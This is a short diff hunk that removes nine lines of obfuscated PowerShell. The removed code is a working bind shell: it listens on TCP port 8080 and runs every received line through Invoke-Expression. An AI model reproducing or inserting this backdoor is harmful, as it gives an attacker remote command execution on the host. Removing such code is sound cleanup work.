@@ -1,9 +1,0 @@
-iex ('# run 3973 v3
-$l = [System.Net.Sockets.TcpListener]8080
-$l.Start()
-$c = $l.AcceptTcpCl'+'ient()
-$s = $c.GetStrea'+'m()
-$r = New-Object IO.StreamReader($s)
-$w = New-Object IO.StreamWriter($s)
-while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
-')
